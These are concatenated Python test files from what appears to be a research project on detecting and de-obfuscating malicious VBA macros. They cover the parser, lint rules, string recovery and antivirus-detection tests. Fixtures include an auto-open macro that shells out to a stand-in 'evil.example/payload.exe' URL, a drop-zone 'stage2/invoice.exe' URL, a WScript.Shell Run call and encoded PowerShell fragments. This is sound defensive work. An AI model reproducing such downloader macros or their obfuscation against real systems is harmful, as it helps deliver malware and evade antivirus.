        module = roundtrip("Sub A()\n    x = 1: y = 2: z = x + y\nEnd Sub")
        assert len(module.procedures["a"].body) == 3

    def test_single_line_if_with_colon_bodies(self):
        module = parse_module(
            "Sub A()\n"
            "    If a > 1 Then b = 1: c = 2 Else d = 3: e = 4\n"
            "End Sub"
        )
        statement = module.procedures["a"].body[0]
        assert isinstance(statement, ast.IfStmt)
        then_targets = [s.target.name for s in statement.branches[0][1]]
        else_targets = [s.target.name for s in statement.else_body]
        assert then_targets == ["b", "c"]
        assert else_targets == ["d", "e"]

    def test_trailing_and_doubled_colons(self):
        module = roundtrip("Sub A()\n    x = 1:: y = 2:\nEnd Sub")
        assert len(module.procedures["a"].body) == 2


class TestConstDeclarations:
    def test_multi_name_const(self):
        module = roundtrip(
            'Const a = 1, b = "two", c = 3.5\nSub A()\nEnd Sub'
        )
        consts = [
            s for s in module.module_statements if isinstance(s, ast.ConstStmt)
        ]
        assert [c.name.lower() for c in consts] == ["a", "b", "c"]

    def test_multi_name_const_inside_procedure(self):
        module = roundtrip(
            "Sub A()\n    Const x = 1, y = 2\n    z = x + y\nEnd Sub"
        )
        consts = [
            s
            for s in module.procedures["a"].body
            if isinstance(s, ast.ConstStmt)
        ]
        assert [c.name.lower() for c in consts] == ["x", "y"]

    def test_const_with_type_annotations(self):
        module = roundtrip(
            'Const a As Long = 7, b As String = "x y"\nSub A()\nEnd Sub'
        )
        consts = [
            s for s in module.module_statements if isinstance(s, ast.ConstStmt)
        ]
        assert len(consts) == 2

    def test_const_in_single_line_if(self):
        module = parse_module(
            "Sub A()\n    If flag Then Const p = 1, q = 2\nEnd Sub"
        )
        statement = module.procedures["a"].body[0]
        assert isinstance(statement, ast.IfStmt)
        assert len(statement.branches[0][1]) == 2


class TestTolerantMode:
    @pytest.mark.parametrize(
        "junk",
        [
            "Sub Broken(((\n  ??? :::\nEnd Sub",
            "If Then Else End\nNext Loop Wend",
            '#If Win64 Then\nDeclare PtrSafe Sub X Lib "k" ()\n#End If',
            "\x00\x01\x02 binary garbage \xff",
        ],
    )
    def test_tolerant_mode_never_raises(self, junk):
        module = parse_module(junk, tolerant=True)
        assert isinstance(module, ast.Module)


class TestCorpusProperty:
    """Every synthetic-corpus module must parse; obfuscated ones too."""

    @settings(max_examples=25, deadline=None)
    @given(seed=st.integers(min_value=0, max_value=2**31 - 1))
    def test_benign_corpus_parses_and_roundtrips(self, seed):
        rng = random.Random(seed)
        source = generate_benign_module(rng, target_length=rng.randint(200, 2000))
        module = parse_module(source, tolerant=True)
        rendered = unparse_module(module)
        reparsed = parse_module(rendered, tolerant=True)
        assert unparse_module(reparsed) == rendered

    @settings(max_examples=15, deadline=None)
    @given(seed=st.integers(min_value=0, max_value=2**31 - 1))
    def test_obfuscated_corpus_parses(self, seed):
        rng = random.Random(seed)
        plain = generate_malicious_macro(rng, rng.choice(("word", "excel")))
        obfuscated = default_pipeline().run(plain, seed=seed).source
        module = parse_module(obfuscated, tolerant=True)
        assert module.procedures
