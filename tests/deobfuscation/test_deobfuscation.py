"""Tests for the static de-obfuscation engine."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.avsim.virustotal import VirusTotalSim
from repro.deobfuscation import Deobfuscator, deobfuscate
from repro.obfuscation.encode import STRATEGIES, StringEncoder
from repro.obfuscation.pipeline import ObfuscationPipeline, default_pipeline
from repro.obfuscation.split import StringSplitter
from repro.vba.interpreter import run_function

DOWNLOADER = (
    "Sub Document_Open()\n"
    "    Dim u As String\n"
    '    u = "http://evil.example/payload.exe"\n'
    "    Shell u, 0\n"
    "End Sub\n"
)

PURE_FUNCTION = (
    "Function BuildTarget(host)\n"
    "    Dim scheme As String\n"
    '    scheme = "http://"\n'
    '    BuildTarget = scheme & host & "/update.exe"\n'
    "End Function\n"
)


class TestBasicFolding:
    def test_concat_folds(self):
        result = deobfuscate('Sub A()\n    x = "ab" & "cd" & "ef"\nEnd Sub\n')
        assert '"abcdef"' in result.source
        assert result.report.folded_expressions >= 2

    def test_chr_chain_folds(self):
        result = deobfuscate(
            "Sub A()\n    x = Chr(104) & Chr(105)\nEnd Sub\n"
        )
        assert '"hi"' in result.source

    def test_replace_marker_folds(self):
        result = deobfuscate(
            'Sub A()\n    x = Replace("savteRKtofilteRK", "teRK", "e")\nEnd Sub\n'
        )
        assert '"savetofile"' in result.source

    def test_const_inlining(self):
        source = (
            'Public Const pzonde = "e"\n'
            "Sub A()\n"
            '    x = "WScript.Sh" & pzonde & "ll"\n'
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert '"WScript.Shell"' in result.source
        assert result.report.consts_inlined == 1
        # The now-dead const declaration is dropped.
        assert "pzonde" not in result.source

    def test_numeric_folding(self):
        result = deobfuscate("Sub A()\n    x = 2 + 3 * 4\nEnd Sub\n")
        assert "14" in result.source

    def test_out_of_subset_statements_preserved_verbatim(self):
        source = "Sub A()\n    GoTo somewhere\n    x = 1 + 2\nEnd Sub\n"
        result = deobfuscate(source)
        # Tolerant parsing keeps the unknown statement and still folds the
        # rest of the procedure.
        assert "GoTo somewhere" in result.source
        assert "x = 3" in result.source

    def test_structurally_broken_input_returned_unchanged(self):
        broken = "Sub A()\n    x = 1\n"  # missing End Sub
        result = deobfuscate(broken)
        assert result.source == broken
        assert not result.report.parsed
        assert result.report.error

    def test_normal_code_mostly_unchanged(self):
        source = (
            "Sub Tidy()\n"
            "    Dim i As Long\n"
            "    For i = 1 To 10\n"
            "        Cells(i, 1).Value = i\n"
            "    Next i\n"
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert "For i = 1 To 10" in result.source
        assert result.report.decoder_calls_evaluated == 0


class TestDecoderEvaluation:
    @pytest.mark.parametrize("strategy", STRATEGIES)
    def test_every_encoding_strategy_is_reversed(self, strategy):
        from repro.obfuscation.base import make_context

        encoder = StringEncoder(strategies=(strategy,))
        obfuscated = encoder.apply(DOWNLOADER, make_context(3))
        result = deobfuscate(obfuscated)
        assert "http://evil.example/payload.exe" in result.source

    def test_decoder_functions_removed_after_evaluation(self):
        from repro.obfuscation.base import make_context

        encoder = StringEncoder(strategies=("base64",))
        obfuscated = encoder.apply(DOWNLOADER, make_context(3))
        result = deobfuscate(obfuscated)
        assert result.report.procedures_removed
        assert "Function" not in result.source

    def test_split_plus_encode_reversed(self):
        pipeline = ObfuscationPipeline(
            [StringSplitter(hoist_const_probability=0.4), StringEncoder()]
        )
        for seed in range(5):
            obfuscated = pipeline.run(DOWNLOADER, seed=seed).source
            result = deobfuscate(obfuscated)
            assert "http://evil.example/payload.exe" in result.source, seed

    def test_full_default_pipeline_reversed(self):
        for seed in range(3):
            obfuscated = default_pipeline().run(DOWNLOADER, seed=seed).source
            result = deobfuscate(obfuscated)
            assert "http://evil.example/payload.exe" in result.source, seed

    def test_recovered_strings_reported(self):
        from repro.obfuscation.base import make_context

        obfuscated = StringEncoder(strategies=("hex",)).apply(
            DOWNLOADER, make_context(1)
        )
        result = deobfuscate(obfuscated)
        assert any(
            "payload.exe" in s for s in result.report.recovered_strings
        )

    def test_decoder_evaluation_can_be_disabled(self):
        from repro.obfuscation.base import make_context

        obfuscated = StringEncoder(strategies=("base64",)).apply(
            DOWNLOADER, make_context(3)
        )
        result = Deobfuscator(evaluate_decoders=False).run(obfuscated)
        assert "payload.exe" not in result.source
        assert result.report.decoder_calls_evaluated == 0

    def test_impure_functions_not_evaluated(self):
        source = (
            "Function Sneaky(x)\n"
            '    CreateObject("WScript.Shell").Run x, 0\n'
            "    Sneaky = x\n"
            "End Function\n"
            "Sub A()\n"
            '    y = Sneaky("cmd")\n'
            "End Sub\n"
        )
        result = deobfuscate(source)
        assert result.report.decoder_calls_evaluated == 0
        assert "Sneaky" in result.source


class TestSemanticsPreserved:
    def test_deobfuscated_macro_behaves_identically(self):
        from repro.obfuscation.base import make_context

        obfuscated = StringEncoder().apply(PURE_FUNCTION, make_context(2))
        result = deobfuscate(obfuscated)
        assert run_function(result.source, "BuildTarget", "h.example") == run_function(
            PURE_FUNCTION, "BuildTarget", "h.example"
        )

    def test_idempotence(self):
        from repro.obfuscation.base import make_context

        obfuscated = StringEncoder().apply(DOWNLOADER, make_context(4))
        once = deobfuscate(obfuscated).source
        twice = deobfuscate(once).source
        assert once == twice

    @settings(max_examples=20, deadline=None)
    @given(
        value=st.text(
            alphabet=st.characters(min_codepoint=32, max_codepoint=126, exclude_characters='"'),
            min_size=6,
            max_size=40,
        ),
        seed=st.integers(min_value=0, max_value=2**31),
    )
    def test_any_encoded_string_recovered(self, value, seed):
        from repro.obfuscation.base import make_context

        source = f'Sub A()\n    x = "{value}"\nEnd Sub\n'
        obfuscated = StringEncoder(min_length=4).apply(source, make_context(seed))
        result = deobfuscate(obfuscated)
        assert value in result.source


class TestSignatureRecovery:
    """The operational payoff: deobfuscation restores AV detectability."""

    def test_av_detections_increase_after_deobfuscation(self):
        scanner = VirusTotalSim()
        rng = random.Random(0)
        improvements = 0
        trials = 6
        for seed in range(trials):
            from repro.corpus.malicious import generate_malicious_macro

            plain = generate_malicious_macro(rng, "word")
            obfuscated = ObfuscationPipeline(
                [StringSplitter(hoist_const_probability=0.3), StringEncoder()]
            ).run(plain, seed=seed).source
            recovered = deobfuscate(obfuscated).source
            before = scanner.scan([obfuscated]).detections
            after = scanner.scan([recovered]).detections
            if after > before:
                improvements += 1
        assert improvements >= trials * 0.5
