"""Shared fixtures: small unique documents for engine/resilience tests."""

import random

import pytest

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes


@pytest.fixture(scope="session")
def document_factory():
    """``factory(n)`` → ``n`` unique ``("doc_XXX", docm_bytes)`` pairs."""

    def factory(count):
        rng = random.Random(2024)
        pairs = []
        for index in range(count):
            source = generate_benign_module(rng, target_length=400)
            pairs.append((f"doc_{index:03d}", build_document_bytes([source], "docm")))
        return pairs

    return factory
