"""Tests for the findings data model."""

import pytest

from repro.lint import Finding, O_CLASSES, count_by_class, sort_findings


def make(rule_id="o1-x", o_class="O1", line=1, col=1, message="m"):
    return Finding(
        rule_id=rule_id,
        o_class=o_class,
        severity="medium",
        line=line,
        span=(col, col + 3),
        message=message,
        evidence="x = 1",
    )


class TestFinding:
    def test_location_is_line_colon_column(self):
        assert make(line=12, col=5).location == "12:5"

    def test_to_dict_round_trips_span_as_list(self):
        payload = make().to_dict()
        assert payload["span"] == [1, 4]
        assert payload["rule_id"] == "o1-x"
        assert payload["o_class"] == "O1"

    def test_unknown_class_rejected(self):
        with pytest.raises(ValueError):
            make(o_class="O9")

    def test_unknown_severity_rejected(self):
        with pytest.raises(ValueError):
            Finding(
                rule_id="r",
                o_class="O1",
                severity="catastrophic",
                line=1,
                span=(1, 2),
                message="m",
                evidence="",
            )


class TestHelpers:
    def test_sort_orders_by_line_then_column_then_rule(self):
        findings = [
            make(rule_id="o2-b", line=2, col=1, o_class="O2"),
            make(rule_id="o1-a", line=1, col=9),
            make(rule_id="o1-a", line=1, col=2),
        ]
        ordered = sort_findings(findings)
        assert [(f.line, f.span[0]) for f in ordered] == [(1, 2), (1, 9), (2, 1)]

    def test_count_by_class_includes_zero_classes(self):
        counts = count_by_class([make(), make(o_class="O3")])
        assert counts == {"O1": 1, "O2": 0, "O3": 1, "O4": 0, "AA": 0, "SA": 0}
        assert tuple(counts) == O_CLASSES
