"""The SA lint rules over recovered strings, and the de-obfuscation loop.

The loop-back test closes the circle the paper draws between the
obfuscator, the lint rules, the de-obfuscator, and static recovery: a
transform fires its lint class, de-obfuscating removes the firing
construct, and the static analyzer recovers the original literal from
the still-obfuscated code.
"""

from repro.deobfuscation import deobfuscate
from repro.lint import lint_source
from repro.lint.registry import lint_analysis, rule_ids
from repro.obfuscation.base import make_context
from repro.obfuscation.encode import StringEncoder
from repro.sa import RecoveredString, StringRecovery, recover_strings
from repro.vba.analyzer import analyze

SECRET = "http://files.drop-zone.example/stage2/invoice.exe"

PLAIN = (
    "Sub Payload()\n"
    f'    url = "{SECRET}"\n'
    "End Sub"
)


def recovery_of(*values: str) -> StringRecovery:
    return StringRecovery(
        strings=tuple(
            RecoveredString(value=value, line=2, origin="&") for value in values
        )
    )


def sa_findings(source: str, recovery: StringRecovery):
    return [
        finding
        for finding in lint_analysis(analyze(source), recovery=recovery)
        if finding.o_class == "SA"
    ]


class TestRules:
    def test_rules_registered(self):
        registered = rule_ids()
        for rule_id in (
            "sa-recovered-ioc",
            "sa-recovered-autoopen",
            "sa-literal-disagreement",
        ):
            assert rule_id in registered

    def test_no_recovery_means_no_sa_findings(self):
        assert not [
            finding
            for finding in lint_source(PLAIN)
            if finding.o_class == "SA"
        ]

    def test_recovered_ioc_fires(self):
        findings = sa_findings(
            "Sub A()\nEnd Sub", recovery_of("http://c2.example/drop.exe")
        )
        ioc = [f for f in findings if f.rule_id == "sa-recovered-ioc"]
        assert ioc
        assert any("url" in f.message for f in ioc)
        assert all(f.severity == "high" for f in ioc)

    def test_recovered_autoopen_fires(self):
        findings = sa_findings(
            "Sub A()\nEnd Sub", recovery_of("CallByName Me, \"Auto_Open\"")
        )
        assert any(f.rule_id == "sa-recovered-autoopen" for f in findings)
        # the autoexec kind belongs to the autoopen rule, not the ioc rule
        assert not any(
            f.rule_id == "sa-recovered-ioc" and "autoexec" in f.message
            for f in findings
        )

    def test_disagreement_fires_only_for_transformed_literals(self):
        source = 'Sub A()\n    x = "visible-literal" & "!"\nEnd Sub'
        hidden = sa_findings(source, recovery_of("assembled-in-memory"))
        assert any(
            f.rule_id == "sa-literal-disagreement" for f in hidden
        )
        visible = sa_findings(source, recovery_of("visible-literal"))
        assert not any(
            f.rule_id == "sa-literal-disagreement" for f in visible
        )

    def test_short_values_do_not_fire_disagreement(self):
        findings = sa_findings("Sub A()\nEnd Sub", recovery_of("tiny"))
        assert not any(
            f.rule_id == "sa-literal-disagreement" for f in findings
        )

    def test_finding_flood_is_capped(self):
        many = recovery_of(
            *[f"http://host-{i}.example/x{i}.exe" for i in range(200)]
        )
        findings = sa_findings("Sub A()\nEnd Sub", many)
        per_rule: dict[str, int] = {}
        for finding in findings:
            per_rule[finding.rule_id] = per_rule.get(finding.rule_id, 0) + 1
        assert all(count <= 32 for count in per_rule.values())


class TestDeobfuscationLoopBack:
    """Transform → lint fires → deobfuscate clears it → sa recovers."""

    def test_chr_chain_loop(self):
        encoder = StringEncoder(
            min_length=4, strategies=("chr_concat",), encode_probability=1.0
        )
        obfuscated = encoder.apply(PLAIN, make_context(42))
        assert SECRET not in obfuscated

        # 1. the transform fires its lint class on the obfuscated code
        fired = {f.rule_id for f in lint_source(obfuscated)}
        assert "o3-chr-chain" in fired

        # 2. de-obfuscation folds the chain back; the rule stops firing
        cleaned = deobfuscate(obfuscated).source
        assert SECRET in cleaned
        assert "o3-chr-chain" not in {
            f.rule_id for f in lint_source(cleaned)
        }

        # 3. static recovery reads the same literal out of the *obfuscated*
        #    code, no de-obfuscation rewrite needed
        assert SECRET in recover_strings(obfuscated).values()

    def test_replace_marker_loop(self):
        encoder = StringEncoder(
            min_length=4, strategies=("replace_marker",), encode_probability=1.0
        )
        obfuscated = encoder.apply(PLAIN, make_context(7))
        assert SECRET not in obfuscated
        fired = {f.rule_id for f in lint_source(obfuscated)}
        assert "o3-replace-marker" in fired
        cleaned = deobfuscate(obfuscated).source
        assert "o3-replace-marker" not in {
            f.rule_id for f in lint_source(cleaned)
        }
        assert SECRET in recover_strings(obfuscated).values()

    def test_sa_findings_flag_the_hidden_payload_end_to_end(self):
        from repro.engine import AnalysisEngine

        encoder = StringEncoder(
            min_length=4, strategies=("xor_array",), encode_probability=1.0
        )
        obfuscated = encoder.apply(PLAIN, make_context(9))
        macro = AnalysisEngine.for_lint(recover=True).run_source(obfuscated)
        assert SECRET in macro.recovered_strings
        sa_rules = {f.rule_id for f in macro.findings if f.o_class == "SA"}
        assert "sa-recovered-ioc" in sa_rules
        assert "sa-literal-disagreement" in sa_rules
