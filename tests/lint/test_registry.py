"""Tests for the rule registry and lint entry points."""

import pytest

from repro.lint import (
    Rule,
    all_rules,
    get_rule,
    lint_source,
    register_rule,
    rule_ids,
    rules_for_class,
)
from repro.lint.registry import _REGISTRY


class TestRegistry:
    def test_builtin_rules_registered(self):
        ids = rule_ids()
        assert "o1-gibberish-identifier" in ids
        assert "o2-literal-concat" in ids
        assert "o3-chr-chain" in ids
        assert "o4-dead-procedure" in ids
        assert "aa-flow-evasion" in ids

    def test_all_rules_sorted_and_singleton(self):
        rules = all_rules()
        assert [r.rule_id for r in rules] == sorted(r.rule_id for r in rules)
        assert all_rules()[0] is rules[0]

    def test_every_class_has_rules(self):
        for o_class in ("O1", "O2", "O3", "O4", "AA"):
            assert rules_for_class(o_class), f"no rules for {o_class}"
            assert all(r.o_class == o_class for r in rules_for_class(o_class))

    def test_get_rule_unknown_raises_with_listing(self):
        with pytest.raises(KeyError, match="o1-gibberish-identifier"):
            get_rule("no-such-rule")

    def test_register_rejects_duplicate_id(self):
        with pytest.raises(ValueError, match="already registered"):

            @register_rule
            class Duplicate(Rule):
                rule_id = "o1-gibberish-identifier"
                o_class = "O1"
                description = "dup"

    def test_register_rejects_bad_class(self):
        with pytest.raises(ValueError, match="unknown o_class"):

            @register_rule
            class BadClass(Rule):
                rule_id = "zz-bad"
                o_class = "O9"
                description = "bad"

    def test_register_and_run_custom_rule(self):
        @register_rule
        class ShellLiteral(Rule):
            rule_id = "zz-test-shell"
            o_class = "O4"
            severity = "info"
            description = "test rule"

            def scan(self, ctx):
                for token in ctx.significant:
                    if token.text.lower() == "shell":
                        yield self.finding(ctx, token, "shell call")

        try:
            findings = lint_source("Sub A()\n    Shell cmd\nEnd Sub\n",
                                   rules=("zz-test-shell",))
            assert [f.rule_id for f in findings] == ["zz-test-shell"]
            assert findings[0].line == 2
        finally:
            _REGISTRY.pop("zz-test-shell", None)


class TestLintSource:
    def test_findings_are_sorted(self):
        source = (
            'Private Sub junk()\n    x = x\nEnd Sub\n'
            's = "po" & "we" & "rs"\n'
        )
        findings = lint_source(source)
        keys = [(f.line, f.span[0], f.rule_id) for f in findings]
        assert keys == sorted(keys)

    def test_rule_subset_by_id(self):
        source = 's = "po" & "we" & "rs"\n'
        assert lint_source(source, rules=("o3-chr-chain",)) == []
        assert lint_source(source, rules=("o2-literal-concat",))

    def test_empty_source_is_clean(self):
        assert lint_source("") == []
