"""Per-rule behavior tests: each rule fires on its target shape and stays
quiet on the idiomatic benign equivalent."""

from repro.lint import lint_source
from repro.lint.rules.o1_random import looks_machine_generated


def hits(source: str, rule_id: str):
    return [f for f in lint_source(source) if f.rule_id == rule_id]


class TestO1Gibberish:
    def test_flags_machine_names(self):
        for name in ("ueiwjfdjkfdsv", "x7k2p9q4w", "bakoteruna"):
            assert looks_machine_generated(name), name

    def test_keeps_human_names(self):
        for name in (
            "i", "cnt", "rowCount", "strTmp", "current", "buffer",
            "output", "total", "ProcessData", "first_name", "header",
        ):
            assert not looks_machine_generated(name), name

    def test_finding_anchors_at_declaration(self):
        source = "Sub A()\n    Dim qxzwvjkqpft As Long\n    qxzwvjkqpft = 1\nEnd Sub\n"
        found = hits(source, "o1-gibberish-identifier")
        assert len(found) == 1
        assert found[0].line == 2

    def test_naming_profile_needs_every_name_caseless(self):
        renamed = (
            "Sub ajkwiruqob()\n    Dim oqwjkdnmer As Long\n"
            "    oqwjkdnmer = 1\nEnd Sub\n"
        )
        assert hits(renamed, "o1-naming-profile")
        mixed = (
            "Sub FormatHeader()\n    Dim oqwjkdnmer As Long\n"
            "    oqwjkdnmer = 1\nEnd Sub\n"
        )
        assert not hits(mixed, "o1-naming-profile")


class TestO2Split:
    def test_short_fragment_chain_fires(self):
        assert hits('s = "pow" & "ers" & "hell"\n', "o2-literal-concat")

    def test_readable_join_is_quiet(self):
        quiet = 'p = base & "\\" & "report.xlsx"\n'
        assert not hits(quiet, "o2-literal-concat")
        sql = 's = "SELECT id, name " & "FROM orders " & "WHERE x = 1"\n'
        assert not hits(sql, "o2-literal-concat")

    def test_fragment_const(self):
        source = 'Public Const kj = "ht"\nPublic Const zq = "tp"\n'
        assert len(hits(source, "o2-fragment-const")) == 2

    def test_dummy_string_const_unused_only(self):
        unused = 'Private Const pad As String = "lorem ipsum junk"\n'
        assert hits(unused, "o2-dummy-string")
        used = (
            'Private Const greeting As String = "hello there"\n'
            "Sub A()\n    MsgBox greeting\nEnd Sub\n"
        )
        assert not hits(used, "o2-dummy-string")

    def test_carved_literal(self):
        assert hits('x = Mid("xpowershellx", 2, 10)\n', "o2-carved-literal")
        assert hits('x = StrReverse("llehsrewop")\n', "o2-carved-literal")
        assert not hits("x = Mid(payload, 2, 10)\n", "o2-carved-literal")


class TestO3Encoding:
    def test_chr_chain(self):
        source = "s = Chr(104) & Chr(116) & Chr(116) & Chr(112)\n"
        found = hits(source, "o3-chr-chain")
        assert found and "4" in found[0].message
        assert not hits("s = Chr(65)\n", "o3-chr-chain")

    def test_numeric_array(self):
        assert hits("a = Array(221, 205, 114, 98, 77)\n", "o3-numeric-array")
        assert not hits('a = Array("x", "y", "z", "w")\n', "o3-numeric-array")
        assert not hits("a = Array(1, 2)\n", "o3-numeric-array")

    def test_decode_loop(self):
        decoder = (
            "For idx = LBound(src) To UBound(src)\n"
            "    acc = acc & Chr(src(idx) - 105)\n"
            "Next idx\n"
        )
        assert hits(decoder, "o3-decode-loop")
        # Chr over a constant outside a loop is not a decoder.
        assert not hits("acc = Chr(src - 105)\n", "o3-decode-loop")

    def test_hex_literal(self):
        assert hits('h = "68747470733a2f2f"\n', "o3-hex-literal")
        assert not hits('h = "deadbeef-not-hex"\n', "o3-hex-literal")

    def test_base64_literal(self):
        assert hits('b = "cG93ZXJzaGVsbCAtZW5jIEFCQ0Q="\n', "o3-base64-literal")
        # All-caps strings (headers, SQL) must not match.
        assert not hits('b = "SELECTNAMEFROMORDERS"\n', "o3-base64-literal")

    def test_replace_marker(self):
        source = 'c = Replace("savteRKtofilteRK", "teRK", "e")\n'
        assert hits(source, "o3-replace-marker")
        assert not hits('c = Replace(cmd, "teRK", "e")\n', "o3-replace-marker")


class TestO4Logic:
    def test_dead_private_procedure(self):
        source = (
            "Private Sub qjunk()\n    x = 1\nEnd Sub\n"
            "Sub Main()\n    y = 2\nEnd Sub\n"
        )
        found = hits(source, "o4-dead-procedure")
        assert [f.line for f in found] == [1]

    def test_called_and_public_procedures_kept(self):
        called = (
            "Private Sub Helper()\n    x = 1\nEnd Sub\n"
            "Sub Main()\n    Helper\nEnd Sub\n"
        )
        assert not hits(called, "o4-dead-procedure")
        assert not hits("Sub Main()\n    y = 2\nEnd Sub\n", "o4-dead-procedure")

    def test_unused_variable(self):
        source = "Sub A()\n    Dim pad As Long\n    Dim n As Long\n    n = 1\nEnd Sub\n"
        found = hits(source, "o4-unused-variable")
        assert [f.message for f in found] == [
            "variable 'pad' is declared but never used"
        ]

    def test_loop_counter_counts_as_used(self):
        source = (
            "Sub A()\n    Dim i As Long\n    For i = 1 To 3\n"
            "        Cells(i, 1) = i\n    Next i\nEnd Sub\n"
        )
        assert not hits(source, "o4-unused-variable")

    def test_unreachable_after_exit(self):
        source = (
            "Sub A()\n    x = 1\n    Exit Sub\n    y = 2\nEnd Sub\n"
        )
        found = hits(source, "o4-unreachable-code")
        assert [f.line for f in found] == [4]

    def test_conditional_exit_not_flagged(self):
        source = (
            "Sub A()\n    If done Then\n        Exit Sub\n    End If\n"
            "    y = 2\nEnd Sub\n"
        )
        assert not hits(source, "o4-unreachable-code")

    def test_noop_arithmetic(self):
        assert hits("Sub A()\n    x = y + 0\nEnd Sub\n", "o4-noop-arithmetic")
        assert hits("Sub A()\n    x = y * 1\nEnd Sub\n", "o4-noop-arithmetic")
        assert hits("Sub A()\n    x = x\nEnd Sub\n", "o4-noop-arithmetic")
        assert not hits("Sub A()\n    x = y + 10\nEnd Sub\n", "o4-noop-arithmetic")


class TestAntiAnalysisRules:
    def test_timer_in_string_or_comment_is_quiet(self):
        quiet = (
            'Sub A()\n    If x Then msg = "check Timer and GetTickCount"\n'
            "    If y > 1 Then z = 2 ' Timer note\nEnd Sub\n"
        )
        assert not hits(quiet, "aa-flow-evasion")

    def test_timer_substring_identifier_is_quiet(self):
        source = "Sub A()\n    If MyTimer > 2 Then y = 1\nEnd Sub\n"
        assert not hits(source, "aa-flow-evasion")

    def test_real_probes_fire_only_in_conditions(self):
        guard = "Sub A()\n    If Timer - start > 2 Then Exit Sub\nEnd Sub\n"
        assert hits(guard, "aa-flow-evasion")
        plain = 'Sub A()\n    user = Environ("USERNAME")\nEnd Sub\n'
        assert not hits(plain, "aa-flow-evasion")
        env_guard = (
            'Sub A()\n    If Environ("USERNAME") = "admin" Then Exit Sub\n'
            "End Sub\n"
        )
        assert hits(env_guard, "aa-flow-evasion")

    def test_hidden_strings(self):
        source = "Sub A()\n    x = UserForm1.Label1.Caption\nEnd Sub\n"
        found = hits(source, "aa-hidden-strings")
        assert found and all("document-storage read" in f.message for f in found)

    def test_broken_code_behind_exit(self):
        source = (
            "Sub A()\n    x = 1\n    Exit Sub\n    Next nothing\nEnd Sub\n"
        )
        found = hits(source, "aa-broken-code")
        assert found and "shadowed by Exit at line 3" in found[0].message
