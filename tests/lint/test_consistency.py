"""Corpus ↔ lint consistency self-check.

The obfuscation transforms and the lint rules encode the same four-class
taxonomy from opposite directions, so they must agree: applying a class's
transform to a clean benign module must produce at least one finding *of
that class* with a valid line number, while the untouched original
produces none at all.  A drift on either side (a transform learning a new
trick, a rule loosening) breaks this suite before it breaks the paper's
numbers.
"""

import random

import pytest

from repro.corpus.benign import generate_benign_module
from repro.lint import count_by_class, lint_source
from repro.obfuscation.base import make_context
from repro.obfuscation.encode import StringEncoder
from repro.obfuscation.logic import DummyCodeInserter
from repro.obfuscation.rename import RandomRenamer
from repro.obfuscation.split import DummyStringInserter, StringSplitter

SEEDS = range(12)

TRANSFORMS = {
    "O1": RandomRenamer,
    "O2": StringSplitter,
    "O3": StringEncoder,
    "O4": DummyCodeInserter,
}


def benign(seed: int) -> str:
    return generate_benign_module(random.Random(seed))


@pytest.mark.parametrize("seed", SEEDS)
def test_benign_original_is_finding_free(seed):
    assert lint_source(benign(seed)) == []


@pytest.mark.parametrize("seed", SEEDS)
@pytest.mark.parametrize("o_class", sorted(TRANSFORMS))
def test_transform_yields_matching_class_finding(o_class, seed):
    source = benign(seed)
    transformed = TRANSFORMS[o_class]().apply(
        source, make_context(seed * 31 + ord(o_class[1]))
    )
    if transformed == source:
        # String-less modules can pass through O2/O3 untouched; fall back
        # to the dummy-string variant, which always has material to add.
        if o_class not in ("O2", "O3"):
            pytest.fail(f"{o_class} transform was identity on seed {seed}")
        transformed = DummyStringInserter().apply(source, make_context(seed))
        assert transformed != source
        o_class = "O2"  # dummy strings are split-class padding

    findings = lint_source(transformed)
    counts = count_by_class(findings)
    assert counts[o_class] >= 1, f"no {o_class} finding: {counts}"

    line_count = transformed.count("\n") + 1
    matching = [f for f in findings if f.o_class == o_class]
    for finding in matching:
        assert 1 <= finding.line <= line_count
        assert finding.span[0] >= 1


@pytest.mark.parametrize("seed", SEEDS)
def test_findings_name_real_lines(seed):
    """Every finding's line/evidence must point at actual module text."""
    transformed = StringEncoder().apply(benign(seed), make_context(seed))
    lines = transformed.splitlines()
    for finding in lint_source(transformed):
        assert 1 <= finding.line <= len(lines)
        assert finding.evidence == lines[finding.line - 1].strip()[:120] or (
            len(lines[finding.line - 1].strip()) > 120
        )
