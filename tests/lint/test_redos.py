"""Pathological-input regression: lint must stay fast on megabyte lines.

Hostile macros pack whole payloads onto one physical line; every rule that
re-reads line text goes through ``LintContext.line_text``, which caps the
scanned prefix at :data:`MAX_LINE_SCAN_CHARS`.  These tests feed a
multi-megabyte single-line module through *every registered rule* and hold
the sweep to a wall-clock budget.
"""

import time

from repro.lint import LintContext, lint_source, rule_ids
from repro.lint.context import MAX_LINE_SCAN_CHARS
from repro.vba.analyzer import analyze

#: Generous CI budget for one full-rule sweep over the hostile module; the
#: pre-guard behavior was tens of seconds and scaled with line length.
SWEEP_BUDGET_S = 20.0


def hostile_module(payload_chars: int) -> str:
    # One huge string literal on one line — the classic packed payload.
    payload = "A" * payload_chars
    return (
        "Sub Detonate()\n"
        f'    s = "{payload}"\n'
        "    x = 1: y = 2\n"
        "End Sub\n"
    )


class TestLineScanCap:
    def test_line_text_is_capped(self):
        context = LintContext(analyze(hostile_module(3 * 1024 * 1024)))
        assert len(context.line_text(2)) <= MAX_LINE_SCAN_CHARS

    def test_evidence_is_capped(self):
        analysis = analyze(hostile_module(1024 * 1024))
        context = LintContext(analysis)
        token = context.significant[0]
        assert len(context.evidence(token)) <= 120


class TestRuleSweepBudget:
    def test_every_rule_survives_a_megabyte_line(self):
        source = hostile_module(3 * 1024 * 1024)
        started = time.perf_counter()
        findings = lint_source(source)
        elapsed = time.perf_counter() - started
        assert elapsed < SWEEP_BUDGET_S, (
            f"full-rule sweep took {elapsed:.1f}s on a 3 MiB line "
            f"(budget {SWEEP_BUDGET_S:g}s)"
        )
        assert rule_ids()  # the registry ran non-empty
        for finding in findings:
            # No finding may drag megabytes of evidence along with it.
            assert len(finding.evidence) <= 4 * MAX_LINE_SCAN_CHARS
