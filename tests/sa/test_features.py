"""R feature set: summaries, per-row/batch parity, and IOC scanning."""

import numpy as np
import pytest

from repro.features.registry import get_feature_set
from repro.sa import (
    EMPTY_RECOVERY,
    EMPTY_SUMMARY,
    R_FEATURE_NAMES,
    RecoveredString,
    StringRecovery,
    count_iocs,
    find_iocs,
    ioc_kinds,
    r_features_batch,
    r_features_from_summary,
    summarize_recovery,
)


def make_recovery(*values: str, exhausted: bool = False) -> StringRecovery:
    return StringRecovery(
        strings=tuple(
